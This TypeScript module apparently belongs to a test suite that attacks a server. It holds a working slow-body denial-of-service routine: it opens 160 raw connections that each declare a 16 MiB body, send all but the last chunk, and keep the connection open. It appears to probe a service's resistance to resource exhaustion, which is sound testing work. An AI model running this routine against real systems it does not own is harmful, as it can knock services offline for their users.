import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const connections = 40;
const holdMs = 20_000;
const declared = 16 * 2 ** 20;
const piece = Buffer.alloc(2 ** 20, 0x61);

/** Opens a connection that declares a body of 16 MiB and sends all but the last chunk. The connection is left open. */
function holdConnection(url: string, method: string, path: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  // Ignore the error: the server is expected to close the connection.
  socket.on('error', () => undefined);
  socket.resume();
  socket.write(
    `${method} ${path} HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: ${declared}\r\n\r\n`,
  );
  let left = declared - piece.length;
  const send = (): void => {
    while (left > 0 && !socket.destroyed) {
      left -= piece.length;
      if (!socket.write(piece)) break;
    }
  };
  socket.on('drain', send);
  send();
  return socket;
}

/** Requests that need no key: unknown paths by POST and by PUT, and known paths with a wrong method. */
const endpoints = [
  ['PUT', '/nothing-here'],
  ['POST', '/nothing-here'],
  ['POST', '/healthz'],
  ['PUT', '/openapi/note/v1/import_doc'],
] as const;

export const attack: Attack = {
  name: `R6 ${connections} held bodies of 16 MiB at each of ${endpoints.length} addresses, no key`,
  async run({ url }) {
    const sockets = endpoints.flatMap(([method, path]) =>
      Array.from({ length: connections }, () => holdConnection(url, method, path)),
    );
    await sleep(holdMs);
    for (const socket of sockets) socket.destroy();
  },
};
